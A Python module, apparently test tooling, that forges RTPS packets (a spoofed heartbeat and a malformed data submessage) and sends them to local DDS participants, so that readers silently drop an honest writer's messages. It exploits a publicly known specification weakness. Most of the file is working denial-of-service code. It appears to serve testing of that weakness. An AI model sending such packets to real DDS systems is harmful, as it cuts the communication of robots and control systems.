"""Forged RTPS packets that end a writer for its readers: a publicly known weakness of the specification (Fast-DDS#3931, cyclonedds#1854).

A reader takes a writer's identity from the packet, from any socket, and a sequence number far ahead as the writer's word that all smaller ones
are gone. Nothing that the honest writer sends is new to the reader then. DDS security is the remedy in the specification; nothing here has it.
"""

import socket
import struct

#: Far above that of any honest message of a trial.
AHEAD = 100_000
#: Ports of a domain (RTPS 9.6.1): base, gain of the domain, offset of user traffic, gain of the participant.
BASE, DOMAIN_GAIN, USER_OFFSET, PARTICIPANT_GAIN = 7400, 250, 11, 2
#: Participants of one machine that are reached.
PARTICIPANTS = 16
PROTOCOL_2_3, VENDOR = b"\x02\x03", b"\x01\x0f"
HEARTBEAT, DATA = 0x07, 0x15
LITTLE_ENDIAN, WITH_DATA = 0x01, 0x04
#: For each reader of the participant that the packet reaches.
EVERY_READER = b"\x00\x00\x00\x00"
#: Above the count of the honest writer's own heartbeats: a reader drops a smaller one as old.
COUNT = 1_000_000


def sequence(number: int) -> bytes:
    """A sequence number: its upper half, then its lower one."""
    return struct.pack("<iI", number >> 32, number & 0xFFFF_FFFF)


def packet(writer: bytes, kind: int, flags: int, content: bytes) -> bytes:
    """One submessage in the name of a writer, whose 16 bytes are its participant's 12 and its own 4."""
    return b"RTPS" + PROTOCOL_2_3 + VENDOR + writer[:12] + struct.pack("<BBH", kind, flags, len(content)) + content


def heartbeat(writer: bytes) -> bytes:
    """Ends a writer for its reliable readers: all messages before `AHEAD` are gone."""
    content = EVERY_READER + writer[12:16] + sequence(AHEAD) + sequence(AHEAD) + struct.pack("<I", COUNT)
    return packet(writer, HEARTBEAT, LITTLE_ENDIAN, content)


def data(writer: bytes) -> bytes:
    """Ends a writer for its best effort readers: a message of number `AHEAD`, too short to be one."""
    to_content = struct.pack("<HH", 0, 16)
    too_short = b"\x00\x01\x00\x00" + bytes(6)
    content = to_content + EVERY_READER + writer[12:16] + sequence(AHEAD) + too_short
    return packet(writer, DATA, LITTLE_ENDIAN | WITH_DATA, content)


def send(forged: bytes, domain: int) -> None:
    """To each participant of the domain on this machine: from an ordinary socket, which no participant knows."""
    first = BASE + DOMAIN_GAIN * domain + USER_OFFSET
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outside:
        for participant in range(PARTICIPANTS):
            outside.sendto(forged, ("127.0.0.1", first + PARTICIPANT_GAIN * participant))
